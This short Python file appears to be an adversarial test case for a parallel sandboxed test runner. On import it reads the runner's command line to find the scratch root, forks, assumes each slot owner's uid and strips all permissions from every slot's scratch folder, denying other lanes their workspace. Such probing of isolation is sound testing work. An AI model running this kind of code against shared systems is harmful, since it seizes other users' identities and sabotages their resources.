"""Takes all rights from the scratch folders of its slots; others must be able to use theirs."""

import contextlib
import json
import os

STATUSES, RESULT, WHEN, NEEDS = ("ok", "crashed", "error"), [], "import", ""
LANES = 4

with open("/proc/self/cmdline") as file:
    ROOT = json.loads(file.read().split("\0")[-2])["scratch_root"]
for slot in range(LANES):
    if (child := os.fork()) == 0:
        with contextlib.suppress(OSError):
            uid = os.stat(f"{ROOT}/{slot}").st_uid
            os.setresuid(uid, uid, uid)
            os.chmod(f"{ROOT}/{slot}", 0)
        os._exit(0)
    os.waitpid(child, 0)


def attack():
    return []
